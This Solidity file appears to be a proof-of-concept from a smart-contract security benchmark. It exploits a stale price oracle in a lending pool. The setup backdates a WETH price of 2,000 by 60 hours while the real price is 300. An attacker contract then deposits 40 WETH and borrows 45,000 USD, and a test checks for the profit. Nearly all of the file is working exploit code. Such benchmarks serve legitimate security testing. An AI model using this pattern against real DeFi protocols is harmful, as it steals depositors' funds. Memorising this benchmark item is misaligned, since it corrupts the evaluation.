// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Attacker {
    function run(LendingPool pool, CollateralVault vault, Weth weth) external {
        weth.approve(address(vault), type(uint256).max);
        vault.deposit(address(weth), 40e18, address(this));
        pool.borrow(45_000e6, address(this), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        weth.mint(address(other), 40e18);
        wethFeed.set(2_000e8, block.timestamp - 60 hours); // it is traded at 300 by now
    }

    function exploit() public {
        other.run(pool, vault, weth);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 40_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
